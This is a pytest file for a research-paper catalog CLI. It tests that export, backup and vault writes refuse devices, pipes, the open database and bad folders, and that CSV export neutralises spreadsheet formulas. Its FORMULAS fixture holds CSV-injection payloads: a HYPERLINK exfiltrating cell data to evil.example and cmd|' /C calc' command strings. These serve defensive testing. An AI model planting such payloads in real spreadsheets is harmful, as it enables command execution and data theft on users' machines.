"""Hostile paths and streams: what catalog writes to, and what it writes into it.

Every command that writes a file someone named (export -o, annotations export, backup, the
vault, the TUI's export, through catalog/export/filewriter.py) is pointed at what it must
not destroy: a device, a FIFO, a symlink to standard output, the open catalog and its WAL,
an existing file, a folder, a missing or read-only folder. Then standard output that is full,
closed or a pipe whose reader left; CSV cells a spreadsheet would run; import paths that are
not there or cannot be read.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from catalog.cli import main
from catalog.errors import CatalogError
from catalog.export.vault import MARKER
from catalog.library import Catalog
from tests.conftest import SEEDS
from tests.privileges import permissions, unprivileged  # noqa: F401 - a fixture

ROOT = Path(__file__).resolve().parent.parent

# Each command that writes a file, with the file last; --force is added where a case needs it.
WRITERS = {
    "export": ("export", "-f", "bibtex", "-o"),
    "annotations": ("annotations", "export", "-o"),
    "backup": ("backup",),
}


@pytest.fixture(scope="module")
def seeded_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile-paths") / "catalog.db"
    catalog = Catalog.open(path)
    catalog.import_paths([SEEDS])
    key = catalog.search("influence functions", limit=1)[0].key
    catalog.tag([key], ["mine"])
    catalog.close()
    return path


@pytest.fixture
def db(seeded_file, tmp_path) -> Path:
    """A copy of the seeded catalog for one test (some tests hold it open)."""
    path = tmp_path / "catalog.db"
    path.write_bytes(seeded_file.read_bytes())
    return path


def cli(db: Path, *args: str):
    result = CliRunner().invoke(main, ["--db", str(db), *args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"catalog {args!r} raised {result.exception!r}") from result.exception
    return result


def program(db: Path, *args: str, **options) -> subprocess.CompletedProcess:
    """The real program (`python -m catalog`), for what in-process runs cannot show."""
    options.setdefault("stdout", subprocess.PIPE)
    options.setdefault("stderr", subprocess.PIPE)
    options.setdefault("timeout", 120)
    return subprocess.run([sys.executable, "-m", "catalog", "--db", str(db), *args], cwd=ROOT,
                          env={**os.environ, "CATALOG_DB": ""}, **options)


def refused(result, *expected: str) -> str:
    """The one line a refused command printed (exit status 1, nothing written to stdout)."""
    stderr = result.stderr if isinstance(result.stderr, str) else result.stderr.decode()
    status = result.exit_code if hasattr(result, "exit_code") else result.returncode
    assert status == 1, stderr
    assert stderr.count("\n") == 1 and stderr.startswith("catalog: ") and "Traceback" not in stderr, stderr
    for words in expected:
        assert words in stderr, stderr
    return stderr


def leftovers(folder: Path) -> list[str]:
    """Temporary files a write left behind."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") or p.name.endswith((".tmp", ".partial")))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def write_to(db: Path, command: str, target: Path | str, *, force: bool = True):
    return cli(db, *WRITERS[command], str(target), *(["--force"] if force else []))


def char_device(tmp_path: Path) -> Path:
    """A character device this test may lose: as root, a node like /dev/null made in tmp_path
    (so a broken build replaces that, not the machine's /dev/null); otherwise /dev/null itself,
    which an ordinary user cannot replace."""
    if os.geteuid() != 0:
        return Path("/dev/null")
    node = tmp_path / "null"
    os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    return node


# --- what is not a regular file --------------------------------------------------------------

@pytest.mark.parametrize("command", WRITERS)
def test_a_device_stays_a_device(db, tmp_path, command):
    device = char_device(tmp_path)
    refused(write_to(db, command, device), "is a character device, not a regular file")
    assert stat.S_ISCHR(device.stat().st_mode)
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("command", WRITERS)
def test_a_fifo_stays_a_fifo(db, tmp_path, command):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    refused(write_to(db, command, fifo), "is a named pipe (FIFO), not a regular file")
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("command", WRITERS)
def test_a_symlink_to_standard_output_stays_a_symlink(db, tmp_path, command):
    """`out` -> /proc/self/fd/1, in the real program with its output a pipe: refused, and the
    link is not replaced by a regular file."""
    link = tmp_path / "out"
    link.symlink_to("/proc/self/fd/1")
    done = program(db, *WRITERS[command], str(link), "--force", text=True)
    assert done.returncode == 1 and done.stdout == "", done.stderr
    assert done.stderr.count("\n") == 1 and "not a regular file" in done.stderr, done.stderr
    assert link.is_symlink() and os.readlink(link) == "/proc/self/fd/1"
    assert leftovers(tmp_path) == []


def test_a_folder_is_refused(db, tmp_path):
    folder = tmp_path / "folder"
    folder.mkdir()
    refused(write_to(db, "export", folder), "it is a folder")
    refused(write_to(db, "annotations", folder), "it is a folder")
    # backup into a folder names the copy after the catalog: a folder by that name is refused
    (folder / "catalog.db").mkdir()
    refused(write_to(db, "backup", folder), "it is a folder")
    assert [p.name for p in folder.iterdir()] == ["catalog.db"] and leftovers(tmp_path) == []


# --- the catalog itself ---------------------------------------------------------------------

@pytest.mark.parametrize("command", WRITERS)
def test_the_open_catalog_and_its_wal_are_never_written_over(db, tmp_path, command):
    holder = Catalog.open(db)  # held open: the WAL and shared-memory files exist
    try:
        holder.search("attention", limit=1)
        wal, shm = Path(f"{db}-wal"), Path(f"{db}-shm")
        assert wal.exists() and shm.exists()
        before = {p: digest(p) for p in (db, wal)}
        link, hard = tmp_path / "link.bib", tmp_path / "hard.bib"
        link.symlink_to(db)
        os.link(db, hard)
        for target, what in ((db, "it is this catalog"), (wal, "this catalog's write-ahead log"),
                             (shm, "this catalog's shared-memory file"),
                             (Path(f"{db}-journal"), "this catalog's rollback journal"),
                             (link, "it is this catalog"), (hard, "it is this catalog")):
            refused(write_to(db, command, target), what)
        assert {p: digest(p) for p in (db, wal)} == before
        assert not Path(f"{db}-journal").exists() and link.is_symlink()
        assert holder.search("tag:mine")  # still the catalog, with its tags
    finally:
        holder.close()
    assert leftovers(tmp_path) == []


# --- existing files and symlinks to them ----------------------------------------------------

@pytest.mark.parametrize("command", WRITERS)
def test_an_existing_file_is_replaced_only_with_force(db, tmp_path, command):
    target = tmp_path / "precious.txt"
    target.write_text("precious")
    refused(write_to(db, command, target, force=False), "exists", "--force")
    assert target.read_text() == "precious"
    assert write_to(db, command, target).exit_code == 0
    assert target.read_bytes() != b"precious" and leftovers(tmp_path) == []


@pytest.mark.parametrize("command", WRITERS)
def test_a_symlink_is_written_through_to_its_target(db, tmp_path, command):
    (tmp_path / "elsewhere").mkdir()
    real = tmp_path / "elsewhere" / "real.out"
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "link.out"
    link.symlink_to(real)
    refused(write_to(db, command, link, force=False), "exists")
    assert write_to(db, command, link).exit_code == 0
    assert link.is_symlink() and link.resolve() == real
    assert real.read_bytes()[:20] != b"old" and stat.S_IMODE(real.stat().st_mode) == 0o640
    # a link to a file not there yet: the file is made where the link points
    dangling = tmp_path / "new.out"
    dangling.symlink_to(tmp_path / "elsewhere" / "new-real.out")
    assert write_to(db, command, dangling, force=False).exit_code == 0
    assert dangling.is_symlink() and (tmp_path / "elsewhere" / "new-real.out").stat().st_size > 0
    assert leftovers(tmp_path) == [] and leftovers(tmp_path / "elsewhere") == []


# --- folders ----------------------------------------------------------------------------------

@pytest.mark.parametrize("command", WRITERS)
def test_a_missing_folder_is_one_line_and_no_folder_is_made(db, tmp_path, command):
    target = tmp_path / "no" / "such" / "file.out"
    refused(write_to(db, command, target, force=False), f"folder {target.parent} does not exist")
    assert not (tmp_path / "no").exists()


@pytest.mark.parametrize("command", WRITERS)
def test_a_read_only_folder_is_one_line(db, tmp_path, command, permissions):
    folder = tmp_path / "ro"
    folder.mkdir()
    permissions.read_only(folder)
    done = unprivileged("--db", str(db), *WRITERS[command], str(folder / "file.out"))
    assert done.returncode == 1 and done.stderr.count("\n") == 1, done.stderr
    assert f"folder {folder} is not writable" in done.stderr and "Traceback" not in done.stderr
    assert list(folder.iterdir()) == []


def test_dash_is_standard_output(db, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    done = cli(db, "export", "-f", "csv", "-o", "-")
    assert done.exit_code == 0 and done.stdout.startswith("key,title,")
    done = cli(db, "annotations", "export", "-o", "-")
    assert done.exit_code == 0 and json.loads(done.stdout)["format"] == "catalog-annotations"
    assert list(tmp_path.iterdir()) == [db]  # no file named "-"


# --- the vault --------------------------------------------------------------------------------

@pytest.fixture
def vault(db, tmp_path) -> tuple[Path, dict[str, str]]:
    """A vault exported once, with your own words below the marker of every note; then the
    catalog changed so that the next export rewrites every note."""
    folder = tmp_path / "vault"
    assert cli(db, "export", "--format", "vault", str(folder)).exit_code == 0
    for note in folder.iterdir():
        note.write_text(note.read_text() + f"my thoughts on {note.stem}\n")
    catalog = Catalog.open(db)
    catalog.tag([p.key for p in catalog.search("", limit=-1)], ["again"])
    catalog.close()
    return folder, {note.name: note.read_text() for note in folder.iterdir()}


def _fail_after(monkeypatch, name: str, calls: int) -> None:
    """os.NAME fails with a full disk from its call number `calls` on."""
    real, count = getattr(os, name), [0]

    def failing(*args, **kwargs):
        count[0] += 1
        if count[0] >= calls:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(*args, **kwargs)

    monkeypatch.setattr(os, name, failing)


def test_a_full_disk_leaves_the_vault_as_it_was(db, vault, monkeypatch):
    folder, before = vault
    _fail_after(monkeypatch, "fsync", 10)  # the tenth note cannot be written
    catalog = Catalog.open(db)
    try:
        with pytest.raises(CatalogError, match="No space left on device"):
            catalog.exchange.export("", "vault", folder)
    finally:
        catalog.close()
    assert {note.name: note.read_text() for note in folder.iterdir()} == before  # no temporary file either


def test_a_full_disk_leaves_no_new_vault_folder(db, tmp_path, monkeypatch):
    _fail_after(monkeypatch, "fsync", 10)
    catalog = Catalog.open(db)
    try:
        with pytest.raises(CatalogError):
            catalog.exchange.export("", "vault", tmp_path / "new-vault")
    finally:
        catalog.close()
    assert not (tmp_path / "new-vault").exists()


def test_a_vault_export_that_fails_exits_non_zero(db, vault, tmp_path):
    """Through the real program: under a file size limit one note (with a long note of yours)
    cannot be written; the others, before it in the folder, are not changed either."""
    import resource

    folder, before = vault
    catalog = Catalog.open(db)
    catalog.add_note(sorted(before)[-1].removesuffix(".md"), "long thoughts " * 8000)
    catalog.close()

    def small_files() -> None:  # SQLite's shared-memory file needs 32 KiB
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, resource.RLIM_INFINITY))

    done = program(db, "export", "--format", "vault", str(folder), text=True, preexec_fn=small_files)
    assert done.returncode == 1, done.stderr
    assert done.stderr.count("\n") == 1 and "File too large" in done.stderr and "Traceback" not in done.stderr
    assert {note.name: note.read_text() for note in folder.iterdir()} == before


def test_a_note_that_cannot_be_put_in_place_is_named(db, vault, monkeypatch):
    folder, before = vault
    first = sorted(before)[0]
    real = os.replace

    def replace(source, target, *args, **kwargs):
        if Path(target).name == first:
            raise OSError(errno.EIO, "Input/output error")
        return real(source, target, *args, **kwargs)

    monkeypatch.setattr(os, "replace", replace)
    catalog = Catalog.open(db)
    try:
        with pytest.raises(CatalogError, match=f"1 note was not written .*{first}: Input/output error"):
            catalog.exchange.export("", "vault", folder)
    finally:
        catalog.close()
    assert (folder / first).read_text() == before[first]
    assert sorted(p.name for p in folder.iterdir()) == sorted(before)  # its temporary file removed


def test_a_symlinked_note_is_written_through(db, vault, tmp_path):
    folder, before = vault
    name = sorted(before)[0]
    elsewhere = tmp_path / "elsewhere.md"
    (folder / name).rename(elsewhere)
    (folder / name).symlink_to(elsewhere)
    assert cli(db, "export", "--format", "vault", str(folder)).exit_code == 0
    assert (folder / name).is_symlink() and (folder / name).resolve() == elsewhere
    text = elsewhere.read_text()
    assert "again" in text.split(MARKER)[0] and text.endswith(MARKER + f"\nmy thoughts on {Path(name).stem}\n")


def test_a_note_that_is_a_pipe_is_left_alone(db, vault, tmp_path):
    """Reading it would wait for a writer forever; it is reported and skipped."""
    folder, before = vault
    name = sorted(before)[0]
    (folder / name).unlink()
    os.mkfifo(tmp_path / "fifo")
    (folder / name).symlink_to(tmp_path / "fifo")
    done = program(db, "export", "--format", "vault", str(folder), text=True, timeout=60)
    assert done.stdout == ""
    assert done.returncode == 0, done.stderr
    assert f"skipped {folder / name}: it is a named pipe (FIFO), not a regular file; left as it is" in done.stderr
    assert (folder / name).is_symlink() and stat.S_ISFIFO((tmp_path / "fifo").stat().st_mode)


# --- standard output ------------------------------------------------------------------------

STDOUT_COMMANDS = [("list",), ("list", "--json"), ("search", "attention"), ("show", "{key}"), ("stats",),
                   ("sql", "SELECT key, title FROM paper"), ("export", "-f", "bibtex"),
                   ("export", "-f", "csv", "-o", "-"), ("annotations", "export"), ("tags",), ("--help",),
                   ("export", "--help"), ("db", "path")]


def _args(db: Path, args: tuple[str, ...]) -> list[str]:
    if "{key}" in args:
        catalog = Catalog.open(db)
        key = catalog.search("influence functions", limit=1)[0].key
        catalog.close()
        args = tuple(a.replace("{key}", key) for a in args)
    return list(args)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("args", STDOUT_COMMANDS, ids=" ".join)
def test_a_full_standard_output_is_one_line(seeded_file, args):
    with open("/dev/full", "w") as full:
        done = program(seeded_file, *_args(seeded_file, args), stdout=full, stderr=subprocess.PIPE, text=True)
    assert done.returncode == 1, done.stderr
    assert done.stderr == "catalog: cannot write to standard output: No space left on device\n"


@pytest.mark.parametrize("args", [("list",), ("export", "-f", "bibtex"), ("stats",), ("--help",)], ids=" ".join)
def test_a_closed_standard_output_is_one_line(seeded_file, args):
    done = program(seeded_file, *args, text=True, preexec_fn=lambda: os.close(1))
    assert done.returncode == 1, done.stderr
    assert done.stderr == "catalog: cannot write to standard output: it is closed\n"


@pytest.mark.parametrize("fmt", ["bibtex", "csv", "jsonl"])
def test_a_reader_that_goes_away_ends_the_command_quietly(seeded_file, fmt):
    """`catalog export | head -c 100`: the export (twice what a pipe holds, one write per
    paper) is still writing when the reader leaves. No message; status 141, as for `cat`
    killed by SIGPIPE."""
    process = subprocess.Popen([sys.executable, "-m", "catalog", "--db", str(seeded_file), "export", "-f", fmt],
                               cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               env={**os.environ, "CATALOG_DB": ""})
    assert len(process.stdout.read(100)) == 100
    process.stdout.close()
    assert process.wait(timeout=120) == 141
    assert process.stderr.read() == b""
    process.stderr.close()


# --- CSV cells a spreadsheet would run ------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "abstract": "+cmd|' /C calc'!A0 and then some words",
    "authors": "@SUM(1+1)*cmd|' /C calc'!A0",
    "venue": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def formulas(tmp_path) -> Path:
    """A catalog holding formulas, text that starts with a quote, and a year -1."""
    bib = tmp_path / "formulas.bib"
    bib.write_text(
        "@article{f1, title={%s}, abstract={%s}, author={%s}, journal={%s}, year={2020}}\n"
        % (FORMULAS["title"], FORMULAS["abstract"], FORMULAS["authors"], FORMULAS["venue"])
        + "@article{f2, title={'Quoted' words}, abstract={-1 is where it starts}, year={2021}}\n"
        + "@article{f3, title={'=not a formula, but a quote}, abstract={plain}, year={2022}}\n")
    db = tmp_path / "formulas.db"
    catalog = Catalog.open(db)
    assert not catalog.import_paths([bib]).errors
    catalog.close()
    conn = sqlite3.connect(db)  # what no import makes: a year -1
    conn.execute("UPDATE paper SET year = -1 WHERE abstract = '-1 is where it starts'")
    conn.commit()
    conn.close()
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]


def test_csv_cells_never_start_a_formula(formulas):
    text = cli(formulas, "export", "-f", "csv").stdout
    cells = _cells(text)
    assert "-1" in cells  # a number stays a number
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-1"]
    assert risky == []
    for value in FORMULAS.values():
        assert "'" + value in cells
    assert "''Quoted' words" in cells and "'-1 is where it starts" in cells and "''=not a formula, but a quote" in cells


def test_tabs_and_carriage_returns_start_no_cell():
    from catalog.text.spreadsheet import neutralised, restored

    for text in ("\t=1+1", "\r=1+1", "=1", "+1+1", "-1-1", "@x", "'x", "-", "+"):
        assert neutralised(text) == "'" + text and restored(neutralised(text)) == text
    for text in ("-1", "+2.5", "2020", "x=1", " =1", ""):
        assert neutralised(text) == text == restored(text)


def test_csv_export_reads_back_unchanged(formulas, tmp_path):
    out = tmp_path / "papers.csv"
    assert cli(formulas, "export", "-f", "csv", "-o", str(out)).exit_code == 0
    fresh = tmp_path / "fresh.db"
    assert cli(fresh, "import", str(out)).exit_code == 0

    def fields(db: Path) -> list[tuple]:
        rows = [json.loads(line) for line in cli(db, "export", "-f", "jsonl").stdout.splitlines()]
        return sorted((r["key"], r["title"], r["abstract"], r["authors"], r["venue"]) for r in rows)

    assert fields(fresh) == fields(formulas)
    assert any(title == FORMULAS["title"] for _, title, *_ in fields(fresh))


def test_a_csv_catalog_did_not_write_keeps_its_quotes(tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("title,abstract\n'Quoted' words,'=as typed\n")
    db = tmp_path / "sheet.db"
    assert cli(db, "import", str(sheet)).exit_code == 0
    row = json.loads(cli(db, "export", "-f", "jsonl").stdout)
    assert (row["title"], row["abstract"]) == ("'Quoted' words", "'=as typed")


# --- paths given to import ------------------------------------------------------------------

def test_import_into_a_missing_folder_makes_no_folder(tmp_path):
    db = tmp_path / "typo" / "sub" / "catalog.db"
    refused(cli(db, "import", str(SEEDS)), f"folder {db.parent} does not exist")
    assert not (tmp_path / "typo").exists()
    done = CliRunner().invoke(main, ["import", str(SEEDS)], env={"CATALOG_DB": str(db)})
    refused(done, f"folder {db.parent} does not exist")
    assert not (tmp_path / "typo").exists()


def test_an_unreadable_folder_is_reported_as_unreadable(tmp_path, permissions):
    folder = tmp_path / "lists"
    (folder / "locked").mkdir(parents=True)
    (folder / "open.bib").write_text("@article{a, title={Readable}, abstract={An abstract.}, year={2020}}\n")
    (folder / "locked" / "hidden.bib").write_text("@article{b, title={Locked}, abstract={x}, year={2020}}\n")
    permissions.unreadable(folder / "locked")
    done = unprivileged("--db", str(tmp_path / "c.db"), "import", str(folder))
    assert done.returncode == 1, done.stderr
    assert f"catalog: {folder / 'locked'}: cannot read this folder (Permission denied)" in done.stderr
    assert "1 new" in done.stderr  # the readable file still imports
    done = unprivileged("--db", str(tmp_path / "c.db"), "import", str(folder / "locked"))
    assert done.returncode == 1 and "cannot read this folder" in done.stderr and "no paper lists" not in done.stderr
